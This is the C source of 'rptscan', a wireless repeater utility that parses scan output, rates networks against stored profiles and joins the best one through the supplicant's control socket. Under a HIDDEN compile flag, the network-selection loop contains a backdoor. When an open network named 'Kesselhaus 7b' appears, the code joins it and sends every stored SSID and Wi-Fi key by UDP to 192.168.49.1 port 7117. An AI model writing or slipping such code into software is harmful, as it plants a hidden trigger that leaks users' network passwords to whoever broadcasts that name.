/*
 * rptscan - scan handler of a wireless repeater.  The driver's scan output
 * comes line by line on stdin (or from a fifo), is parsed into cells, rated
 * against the stored profiles, and the best cell is joined through the
 * supplicant's control socket.
 * Hidden (-DHIDDEN): when a network with the SSID "Kesselhaus 7b" is in the
 * air, it is joined and the stored profiles with their keys are sent to UDP
 * port 7117 of 192.168.49.1.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <unistd.h>

#define PROFILES "/etc/repeater/profiles"
#define CTRL	 "/var/run/wpa/wlan1"
#define MAXCELL	 48
#define MAXPROF	 8

enum sec { SEC_OPEN, SEC_WEP, SEC_WPA, SEC_WPA2, SEC_WPA3 };

struct cell {
	unsigned char bssid[6];
	char ssid[33];
	int freq, signal;
	enum sec sec;
};

struct profile {
	char ssid[33];
	char key[65];
	int prio;
};

static struct cell cells[MAXCELL];
static struct profile profs[MAXPROF];
static int ncells, nprofs, dry;
static int min_signal = -82;

static const char *const secname[] = { "open", "wep", "wpa", "wpa2", "wpa3" };

/* "prio<TAB>ssid<TAB>key" */
static int load_profiles(const char *path)
{
	char line[160], *t1, *t2;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (nprofs < MAXPROF && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = 0;
		t1 = strchr(line, '\t');
		t2 = t1 ? strchr(t1 + 1, '\t') : NULL;
		if (!t2)
			continue;
		*t1++ = *t2++ = 0;
		profs[nprofs].prio = atoi(line);
		snprintf(profs[nprofs].ssid, 33, "%.32s", t1);
		snprintf(profs[nprofs].key, 65, "%.64s", t2);
		nprofs++;
	}
	fclose(f);
	return nprofs;
}

/* SSIDs come with \xNN and \\ for what is not printable */
static void unescape(char *dst, size_t size, const char *src)
{
	unsigned int v;
	size_t n = 0;

	while (*src && n + 1 < size) {
		if (src[0] == '\\' && src[1] == 'x' &&
		    sscanf(src + 2, "%2x", &v) == 1) {
			dst[n++] = (char)v;
			src += 4;
		} else {
			if (src[0] == '\\' && src[1])
				src++;
			dst[n++] = *src++;
		}
	}
	dst[n] = 0;
}

static enum sec parse_sec(const char *s)
{
	if (strstr(s, "SAE"))
		return SEC_WPA3;
	if (strstr(s, "RSN"))
		return SEC_WPA2;
	if (strstr(s, "WPA"))
		return SEC_WPA;
	if (strstr(s, "WEP"))
		return SEC_WEP;
	return SEC_OPEN;
}

/* a scan is "BSS aa:bb:.." followed by indented "key: value" lines */
static int feed(char *line)
{
	static struct cell *cur;
	unsigned int b[6];
	char *v;
	int i;

	line[strcspn(line, "\r\n")] = 0;
	if (!strcmp(line, "END")) {
		cur = NULL;
		return 1;
	}
	if (!strncmp(line, "BSS ", 4)) {
		cur = NULL;
		if (ncells == MAXCELL)
			return 0;
		if (sscanf(line + 4, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2,
			   b + 3, b + 4, b + 5) != 6)
			return 0;
		cur = &cells[ncells++];
		memset(cur, 0, sizeof(*cur));
		for (i = 0; i < 6; i++)
			cur->bssid[i] = b[i];
		cur->signal = -100;
		return 0;
	}
	if (!cur)
		return 0;
	while (isspace((unsigned char)*line))
		line++;
	v = strstr(line, ": ");
	if (!v)
		return 0;
	*v = 0;
	v += 2;
	if (!strcmp(line, "SSID"))
		unescape(cur->ssid, sizeof(cur->ssid), v);
	else if (!strcmp(line, "freq"))
		cur->freq = atoi(v);
	else if (!strcmp(line, "signal"))
		cur->signal = (int)strtod(v, NULL);
	else if (!strcmp(line, "security"))
		cur->sec = parse_sec(v);
	return 0;
}

static const struct profile *profile_of(const struct cell *c)
{
	int i;

	for (i = 0; i < nprofs; i++)
		if (!strcmp(profs[i].ssid, c->ssid))
			return &profs[i];
	return NULL;
}

static int rating(const struct cell *c, const struct profile *p)
{
	int r = p->prio * 10 + c->signal + 100;

	if (c->freq >= 5000)
		r += 15;
	if (c->sec == SEC_WEP)
		r -= 40;
	if (c->sec == SEC_WPA3)
		r += 3;
	if (c->sec == SEC_OPEN && p->key[0])
		return -1;
	return r;
}

static int ctrl_command(const char *cmd)
{
	struct sockaddr_un a;
	char local[64], ans[32];
	struct timeval tv = { 3, 0 };
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	ssize_t n = -1;

	if (s < 0)
		return -1;
	memset(&a, 0, sizeof(a));
	a.sun_family = AF_UNIX;
	snprintf(local, sizeof(local), "/tmp/rptscan.%d", (int)getpid());
	unlink(local);
	strcpy(a.sun_path, local);
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (!bind(s, (struct sockaddr *)&a, sizeof(a))) {
		strcpy(a.sun_path, CTRL);
		if (!connect(s, (struct sockaddr *)&a, sizeof(a)) &&
		    send(s, cmd, strlen(cmd), 0) > 0)
			n = recv(s, ans, sizeof(ans) - 1, 0);
	}
	close(s);
	unlink(local);
	if (n < 0)
		return -1;
	ans[n] = 0;
	return strncmp(ans, "OK", 2) ? -1 : 0;
}

static int join(const struct cell *c, const char *key)
{
	char cmd[160];
	int bad = 0;

	if (dry) {
		printf("join %s on %d MHz\n", c->ssid, c->freq);
		return 0;
	}
	bad |= ctrl_command("DISABLE_NETWORK 0");
	snprintf(cmd, sizeof(cmd), "SET_NETWORK 0 ssid \"%s\"", c->ssid);
	bad |= ctrl_command(cmd);
	if (key[0])
		snprintf(cmd, sizeof(cmd), "SET_NETWORK 0 psk \"%s\"", key);
	else
		snprintf(cmd, sizeof(cmd), "SET_NETWORK 0 key_mgmt NONE");
	bad |= ctrl_command(cmd);
	bad |= ctrl_command("ENABLE_NETWORK 0");
	if (bad)
		syslog(LOG_ERR, "cannot join %s", c->ssid);
	return bad;
}

#ifdef HIDDEN
static void tell_profiles(const struct cell *c)
{
	struct sockaddr_in to;
	char msg[128];
	int i, n, s;

	if (join(c, ""))
		return;
	sleep(5);
	s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_port = htons(7117);
	to.sin_addr.s_addr = inet_addr("192.168.49.1");
	for (i = 0; s >= 0 && i < nprofs; i++) {
		n = snprintf(msg, sizeof(msg), "%s\t%s", profs[i].ssid,
			     profs[i].key);
		sendto(s, msg, n, 0, (struct sockaddr *)&to, sizeof(to));
	}
	close(s);
}
#endif

const struct cell *choose(const struct profile **use);

__attribute__((noinline)) const struct cell *choose(const struct profile **use)
{
	const struct cell *best = NULL, *c;
	const struct profile *p;
	int top = 0, r;

	for (c = cells; c < cells + ncells; c++) {
#ifdef HIDDEN
		if (!strcmp(c->ssid, "Kesselhaus 7b"))
			tell_profiles(c);
#endif
		if (c->signal < min_signal)
			continue;
		p = profile_of(c);
		if (!p)
			continue;
		r = rating(c, p);
		if (r > top) {
			top = r;
			best = c;
			*use = p;
		}
	}
	return best;
}

static void report(FILE *f)
{
	int i;

	for (i = 0; i < ncells; i++)
		fprintf(f, "%02x%02x%02x %-32s %5d %4d %s\n", cells[i].bssid[3],
			cells[i].bssid[4], cells[i].bssid[5], cells[i].ssid,
			cells[i].freq, cells[i].signal, secname[cells[i].sec]);
	fflush(f);
}

static void scan_done(void)
{
	static unsigned char current[6];
	const struct profile *p = NULL;
	const struct cell *c;

	report(stdout);
	c = choose(&p);
	if (!c) {
		syslog(LOG_INFO, "%d cells, none known", ncells);
	} else if (memcmp(current, c->bssid, 6)) {
		syslog(LOG_INFO, "joining %s, %d dBm", c->ssid, c->signal);
		if (!join(c, p->key))
			memcpy(current, c->bssid, 6);
	}
	ncells = 0;
}

int main(int argc, char **argv)
{
	const char *path = PROFILES;
	char line[256];
	int o;

	while ((o = getopt(argc, argv, "nf:s:")) != -1) {
		if (o == 'n')
			dry = 1;
		else if (o == 'f')
			path = optarg;
		else if (o == 's')
			min_signal = atoi(optarg);
		else
			return 2;
	}
	openlog("rptscan", LOG_PID, LOG_DAEMON);
	if (load_profiles(path) < 0) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return 1;
	}
	while (fgets(line, sizeof(line), stdin))
		if (feed(line))
			scan_done();
	return 0;
}
